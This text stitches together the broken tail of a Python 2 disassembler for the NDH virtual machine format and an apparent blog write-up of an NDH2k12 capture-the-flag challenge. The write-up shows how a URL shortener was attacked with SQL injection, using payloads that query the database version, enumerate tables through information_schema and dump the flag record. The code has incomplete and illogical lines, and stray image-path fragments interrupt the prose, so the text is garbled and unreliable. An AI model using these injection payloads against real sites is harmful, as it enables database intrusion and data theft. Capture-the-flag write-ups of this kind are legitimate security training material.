    return " ".join("%02x" % ord(code[i]) for i in range(5))
def main( argc, argv ) :
    f = open( argv[1], 'rb' )
    data =
    if "-raw" in argv:
        code = data
        if data[:4] != '.NDH' :
            die( 'Bad ndh header' )
        code = data[START:STOP]
    #if data[:4] != '.NDH' :
    #    die( 'Bad ndh header' )
    #code = data[START:STOP]
    global cursorcursor = 0
    while cursor < len(code) :
        opcode = ord(code[cursor])
        cursor += 1
        if opcode not in OPCODES :
            print "Warning : skipping unknown opcode %02x" % opcode
        offset = "0x%04x | " % (START + cursor - 1)
        addr = '[' + hex(BASE_ADDR + cursor - 1) + '] '
        opcodes_dump = get_opcodes_str(code[cursor - 1:]) + "\t\t"
        sys.stdout.write(offset + addr + opcodes_dump + ' ' + OPCODES[opcode] + ' ')
        if OPCODES[opcode] in NOFLAG or OPCODES[opcode] in SPECIAL :
            cursor += globals()[ 'disass_' + OPCODES[opcode] ]( code[cursor:] )
        else :
            cursor += extract( code[cursor:] )
if __name__ == '__main__' :
        sys.exit( main( len( sys.argv ), sys.argv ) )

NDH2k12 Prequals - New email from our contact - Sciteek shortener


According to the description was a url shortening service.

After searching about how these services work i found two “common” practises.

The first was inserting urls in the database and then transforming the ID of that record to Base36 (letters a-z digits 0-9) or some other custom encryption and using it as an alias. But since the alias in the link given had both uppercase, lowercase characters and digits the transformation must be Base62 or it was using some other way to map aliases to urls. Base62 didn’t give us any results so we moved towards the second way ofmapping.

That was entering the alias and url in separate fields in the database. So the alias was taking part in an sql query that could be prone to SQL Injection and thus our way in.

Testing this idea with’ UNION SELECT @@version-- a%%%

gave us the first result. The version of the database was returned in the url so alias was passed unfiltered.

Now we just had to find the table and column names.

Some queries toinformation_schema did the trick:' UNION SELECT CONCAT(table_name,'',column_name) FROM information_schema.columns WHERE table_schema != 'mysql' AND table_schema != 'information_schema' LIMIT 0,1-- a

returns shortner id' UNION SELECT CONCAT(table_name,' ',column_name) FROM information_schema.columns WHEREtable_schema != 'mysql' AND table_schema != 'information_schema'LIMIT 1,1-- a

returns shortner alias' UNION SELECT CONCAT(table_name,' ',column_name) FROM information_schema.columns WHERE table_schema != 'mysql' AND table_schema != 'information_schema' LIMIT 2,1-- areturns shortner url

Next was to find out how many ids are in the table.
Asking the polite database' UNION SELECT CONCAT(min(id),' ',max(id),' ',count(*)) from shortner-- a

answered with 33 43 11 so there are 11 records in the database starting with id 33 up to 43.
So no need for a bruteforcer to get all records.

The precious flag was in id 40' UNION SELECT CONCAT(url,' ',alias) FROM shortner WHERE id=40-- a 5867hjgjhgffdedeseddf7967


Bonus url : Google :? CTF RankingRickrolling ;-) WTF !?

- page 1 of 2